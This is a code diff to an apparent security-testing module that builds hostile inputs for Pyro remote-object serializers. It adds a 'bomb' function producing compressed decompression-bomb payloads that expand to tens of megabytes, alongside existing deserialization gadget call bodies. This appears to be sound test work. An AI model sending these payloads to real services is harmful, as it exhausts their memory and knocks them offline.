@@ -4,8 +4,11 @@ from __future__ import annotations
 
 import base64
 import pickle
+import struct
 import sys
+import zlib
 from collections.abc import Iterator
+from functools import cache
 from typing import Any
 
 from hostile import packer
@@ -209,3 +212,12 @@ def _odd_calls(gadget: Any, name: str) -> Iterator[bytes]:
         yield packer.call_body(name, "Pyro.Daemon", method, [gadget])
         yield packer.call_body(name, "subject", method, [gadget, gadget])
     yield packer.body(name, gadget)
+
+
+@cache
+def bomb(name: str) -> bytes:
+    """Small containers, hundreds of megabytes of them, in some kilobytes."""
+    inside, ends = {"serpent": (b"[],", b"[]"), "json": (b"[],", b"[]")}.get(name, (b"\x90", b""))
+    data = inside * ((32 << 20) // len(inside))
+    start = {"serpent": b"# serpent utf-8 python3.2\n[", "json": b"["}.get(name, struct.pack(">BI", 0xDD, len(data)))
+    return zlib.compress(start + data + (ends and ends + b"]"), 1)
